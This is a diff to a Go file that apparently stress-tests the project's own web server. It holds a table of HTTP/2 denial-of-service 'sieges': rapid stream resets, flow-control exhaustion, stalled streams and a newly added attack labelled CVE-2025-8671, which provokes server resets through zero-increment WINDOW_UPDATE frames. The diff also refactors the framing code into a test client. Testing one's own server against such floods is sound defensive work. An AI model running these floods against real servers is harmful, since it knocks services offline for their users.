@@ -1,8 +1,6 @@
 package main
 
 import (
-	"bufio"
-	"bytes"
 	"context"
 	"fmt"
 	"io"
@@ -14,8 +12,8 @@ import (
 	"time"
 
 	"golang.org/x/net/http2"
-	"golang.org/x/net/http2/hpack"
 
+	"oneminuteguide/web/http2test"
 	"oneminuteguide/web/protocol"
 )
 
@@ -69,10 +67,23 @@ var sieges = map[string]siege{
 	}},
 	"HTTP/2: streams that are reset at once": {true, func(ctx context.Context, b *besieged) {
 		again(ctx, 4, func() {
-			withFramer(b, func(f *http2.Framer, ask func(id uint32, path string)) {
+			speak(b, func(client *http2test.Client) {
 				for id := uint32(1); id < 2000; id += 2 {
-					ask(id, "/contacts/")
-					if f.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
+					client.Ask(id, "/contacts/")
+					if client.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
+						return
+					}
+				}
+			})
+			time.Sleep(10 * time.Millisecond)
+		})
+	}},
+	"HTTP/2: streams that the server is made to reset": {true, func(ctx context.Context, b *besieged) { // CVE-2025-8671
+		again(ctx, 4, func() {
+			speak(b, func(client *http2test.Client) {
+				for id := uint32(1); id < 2000; id += 2 {
+					client.Ask(id, "/contacts/")
+					if client.WriteWindowUpdate(id, 0) != nil {
 						return
 					}
 				}
@@ -90,13 +101,10 @@ var sieges = map[string]siege{
 				return
 			}
 			defer conn.Close()
-			f := http2.NewFramer(conn, nil)
-			io.WriteString(conn, http2.ClientPreface)
-			f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30})
-			f.WriteWindowUpdate(0, 1<<30)
-			ask := asking(f)
+			client := http2test.NewClient(conn, http2test.TakesAll)
+			client.WriteWindowUpdate(0, 1<<30)
 			for id := uint32(1); id < 48; id += 2 {
-				ask(id, "/guides/cse/")
+				client.Ask(id, "/guides/cse/")
 			}
 			<-ctx.Done()
 		})
@@ -105,13 +113,12 @@ var sieges = map[string]siege{
 		var all sync.WaitGroup
 		for range 200 {
 			all.Go(func() {
-				withFramer(b, func(f *http2.Framer, ask func(id uint32, path string)) {
-					f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
+				speak(b, func(client *http2test.Client) {
 					for id := uint32(1); id < 128; id += 2 {
-						ask(id, protocol.ProgramPath)
+						client.Ask(id, protocol.ProgramPath)
 					}
 					<-ctx.Done()
-				})
+				}, http2test.TakesNothing)
 			})
 		}
 		all.Wait()
@@ -182,29 +189,14 @@ func send(b *besieged, text string) {
 	time.Sleep(50 * time.Millisecond)
 }
 
-// withFramer speaks HTTP/2 on a connection of its own. What comes is read and forgotten.
-func withFramer(b *besieged, speak func(f *http2.Framer, ask func(id uint32, path string))) {
+// speak speaks HTTP/2 on a connection of its own. What comes is read and forgotten.
+func speak(b *besieged, speak func(client *http2test.Client), settings ...http2.Setting) {
 	conn, err := b.dial()
 	if err != nil {
 		return
 	}
 	defer conn.Close()
-	io.WriteString(conn, http2.ClientPreface)
-	f := http2.NewFramer(conn, bufio.NewReader(conn))
-	f.WriteSettings()
+	client := http2test.NewClient(conn, settings...)
 	go io.Copy(io.Discard, conn)
-	speak(f, asking(f))
-}
-
-// asking asks for paths on streams.
-func asking(f *http2.Framer) func(id uint32, path string) {
-	var block bytes.Buffer
-	encoder := hpack.NewEncoder(&block)
-	return func(id uint32, path string) {
-		block.Reset()
-		for _, field := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", path}} {
-			encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
-		}
-		f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true})
-	}
+	speak(client)
 }
